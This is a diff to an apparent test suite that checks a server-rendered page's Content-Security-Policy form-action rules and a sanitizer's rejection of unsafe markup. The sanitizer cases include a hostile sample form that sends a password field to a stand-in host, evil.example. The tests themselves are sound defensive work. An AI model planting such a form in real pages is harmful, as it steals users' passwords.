@@ -52,8 +52,11 @@ describe('a public page arrives in its HTML: the shell frame with the remote pre
     // Its one inline script (the press kept for the app), allowed by its hash on this page alone.
     expect(response.body).toContain(`<script>${SERVER_PAGE_SCRIPT}</script>`);
     expect(response.headers['content-security-policy']).toContain(`script-src 'self' ${SERVER_PAGE_SCRIPT_SOURCE};`);
+    // Its forms, sent by the browser before the scripts, would load the page afresh: its policy refuses every one.
+    expect(response.headers['content-security-policy']).toContain("form-action 'none';");
     const signIn = await t.app.inject({ url: '/signin' });
     expect(signIn.headers['content-security-policy']).toContain("script-src 'self';");
+    expect(signIn.headers['content-security-policy']).toContain("form-action 'self';");
     expect(signIn.body).not.toContain(SERVER_PAGE_SCRIPT);
     // The shell's scripts still come, and take over from the page, started by that script after the first paint:
     // named with a type the browser does not load, as is the preload of the remote's manifest. The "needs
@@ -176,7 +179,7 @@ describe('a public page arrives in its HTML: the shell frame with the remote pre
     [
       'a form that sends what is typed elsewhere',
       '<form action="https://evil.example/"><input name="password"></form>',
-      'a <form> element',
+      'the attribute action on <form>',
     ],
     // Elements whose content the parser reads as text to their end tag, or to the end of the document: the frame's
     // footer and the shell's root with it.
